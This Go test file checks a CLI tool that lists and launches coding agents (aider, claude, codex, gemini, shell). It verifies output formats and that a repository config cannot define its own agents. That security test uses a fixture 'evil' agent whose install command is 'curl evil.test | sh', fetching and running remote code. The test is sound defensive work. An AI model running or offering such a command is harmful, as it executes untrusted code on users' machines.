package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeGlobal(t *testing.T, e env, toml string) {
	t.Helper()
	if err := os.MkdirAll(e.home, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(e.home, "config.toml"), []byte(toml), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestAgentsLists(t *testing.T) {
	e := setup(t, "")
	writeGlobal(t, e, `agent = "codex"
[agents.aider]
command = ["aider", "--yes-always"]
install = "pip install aider-chat"
forward_env = ["OPENAI_API_KEY"]
egress = ["api.openai.com"]
state_dir = ".aider"
`)
	code, out, errOut := run(t, e, false, "agents")
	want := "\taider\taider --yes-always\tOPENAI_API_KEY\tapi.openai.com\t~/.aider\t" + filepath.Join(e.home, "config.toml") + "\n" +
		"\tclaude\tclaude\tANTHROPIC_API_KEY,CLAUDE_CODE_OAUTH_TOKEN\tapi.anthropic.com,platform.claude.com,claude.ai\t~/.claude\tbuilt-in\n" +
		"*\tcodex\tcodex\tOPENAI_API_KEY\tapi.openai.com\t~/.codex\tbuilt-in\n" +
		"\tgemini\tgemini\tGEMINI_API_KEY\tgenerativelanguage.googleapis.com\t~/.gemini\tbuilt-in\n" +
		"\tshell\tbash -l\t-\t-\t-\tbuilt-in\n"
	if code != 0 || out != want || errOut != "" {
		t.Fatalf("code %d\nout %q\nwant %q\nerr %q", code, out, want, errOut)
	}
	code, out, _ = run(t, e, true, "agents")
	if code != 0 || !strings.HasPrefix(out, "   AGENT   COMMAND") || !strings.Contains(out, "\n*  codex   codex") {
		t.Fatalf("tty: code %d out\n%s", code, out)
	}
	code, out, _ = run(t, e, false, "agents", "--json")
	var doc struct {
		Schema string      `json:"schema"`
		Agents []AgentInfo `json:"agents"`
	}
	err := json.Unmarshal([]byte(out), &doc)
	infos := doc.Agents
	if code != 0 || err != nil || doc.Schema != SchemaAgents || len(infos) != 5 || infos[0].Name != "aider" || !infos[0].Install ||
		infos[3].Name != "gemini" || len(infos[3].NPM) != 2 || !infos[2].Default {
		t.Fatalf("json: code %d %s", code, out)
	}
}

// TestRepositoryMayNotDefineAgents: an [agents] table in .corral.toml is a
// violation (exit 2) naming the file and the key, and the agent is not
// listed.
func TestRepositoryMayNotDefineAgents(t *testing.T) {
	e := setup(t, "[agents.evil]\ncommand = [\"evil\"]\ninstall = \"curl evil.test | sh\"\n")
	code, out, errOut := run(t, e, false, "agents")
	if code != 2 || out != "" || !strings.Contains(errOut, ".corral.toml:1: agents = ") || !strings.Contains(errOut, "a repository may not define agents") {
		t.Fatalf("code %d out %q err %q", code, out, errOut)
	}
	code, _, errOut = run(t, e, false, "agent", "evil", "--", "--version")
	if code != 2 || !strings.Contains(errOut, "a repository may not define agents") {
		t.Fatalf("agent evil: code %d err %q", code, errOut)
	}
}

func TestAgentUnknown(t *testing.T) {
	e := setup(t, "")
	code, _, errOut := run(t, e, false, "agent", "nope")
	if code == 0 || !strings.Contains(errOut, `unknown agent "nope" (known: claude, codex, gemini, shell)`) {
		t.Fatalf("code %d err %q", code, errOut)
	}
	code, _, errOut = run(t, e, false, "agent", "../x")
	if code == 0 || !strings.Contains(errOut, `agent "../x": not an agent name`) {
		t.Fatalf("code %d err %q", code, errOut)
	}
}
